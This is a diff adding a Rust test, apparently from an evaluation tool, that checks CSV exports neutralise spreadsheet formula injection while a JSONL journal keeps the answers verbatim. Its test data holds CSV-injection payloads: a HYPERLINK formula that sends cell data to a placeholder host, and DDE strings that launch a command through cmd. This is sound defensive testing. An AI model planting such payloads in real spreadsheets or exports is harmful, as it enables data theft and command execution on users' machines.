@@ -284,3 +284,63 @@ fn text_comparisons_ignore_normalisation_and_width() {
         ),
     ]);
 }
+
+#[test]
+fn csv_cells_that_a_spreadsheet_would_run_are_inert_and_the_journal_is_exact() {
+    let tmp = tempfile::tempdir().unwrap();
+    let contains = json!({"kind": "contains", "any": ["1"]});
+    let answers = [
+        (
+            "=eq",
+            "=HYPERLINK(\"http://example.invalid/?d=\"&A1,\"Click\")",
+        ),
+        ("+plus", "+1+cmd|' /C calc'!A0"),
+        ("-minus", "-2+3+cmd|' /C calc'!A0"),
+        ("@at", "@SUM(1+9)*cmd|' /C calc'!A0"),
+        ("tab", "\t=1+1"),
+        ("cr", "\r=1+1"),
+        ("num", "-1.5"),
+    ];
+    let items: Vec<Item> = answers
+        .iter()
+        .map(|(id, a)| item(id, contains.clone(), a, "1"))
+        .collect();
+    let dir = run_items(tmp.path(), &items);
+    let mut checked = 0;
+    for e in std::fs::read_dir(&dir).unwrap() {
+        let p = e.unwrap().path();
+        if p.extension().is_some_and(|x| x == "csv") {
+            let mut r = csv::Reader::from_path(&p).unwrap();
+            for rec in r.records() {
+                for cell in rec.unwrap().iter() {
+                    let live = cell.starts_with(['=', '+', '@', '\t', '\r'])
+                        || (cell.starts_with('-') && cell.parse::<f64>().is_err());
+                    assert!(!live, "{}: live cell {cell:?}", p.display());
+                    checked += 1;
+                }
+            }
+        }
+    }
+    assert!(checked > 50, "{checked} cells checked");
+    let rows = read_csv(&dir.join("results.csv"));
+    for (id, answer) in answers {
+        let row = rows
+            .iter()
+            .find(|r| r["item_id"] == format!("'{id}") || r["item_id"] == id);
+        let row = row.unwrap_or_else(|| panic!("{id} in results.csv"));
+        let want = if id == "num" {
+            answer.to_string()
+        } else {
+            format!("'{answer}")
+        };
+        assert_eq!(row["answer"], want, "{id}");
+    }
+    let journal = read_jsonl(&dir.join("journal.jsonl"));
+    for (id, answer) in answers {
+        let row = journal
+            .iter()
+            .find(|r| r["item"] == id && r["kind"] == "candidate")
+            .unwrap();
+        assert_eq!(row["response"], answer, "the journal keeps {id} exact");
+    }
+}
